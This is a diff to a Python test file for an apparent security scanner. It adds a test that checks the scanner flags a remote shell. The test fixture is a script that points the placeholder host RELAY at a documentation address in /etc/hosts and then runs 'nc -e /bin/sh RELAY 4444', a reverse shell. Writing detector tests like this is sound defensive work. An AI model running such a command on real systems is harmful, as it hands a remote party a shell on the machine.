@@ -323,3 +323,8 @@ def test_a_system_package_source_on_plain_http_an_ip_or_unsigned(tmp_path: Path)
         (2, "http://203.0.113.5/charts"),
         (3, "https://apt.example.invalid/"),
     ]  # a vendor's signed HTTPS repository is how Docker and chart hosts are installed
+
+
+def test_a_placeholder_name_the_script_maps_to_an_address_is_a_host(tmp_path: Path) -> None:
+    script = "echo '203.0.113.5 RELAY' | sudo tee -a /etc/hosts\nnc -e /bin/sh RELAY 4444\n"
+    assert ("REMOTE_SHELL", "scripts/x.sh", 2) in scan_errors(tmp_path, {"scripts/x.sh": script})
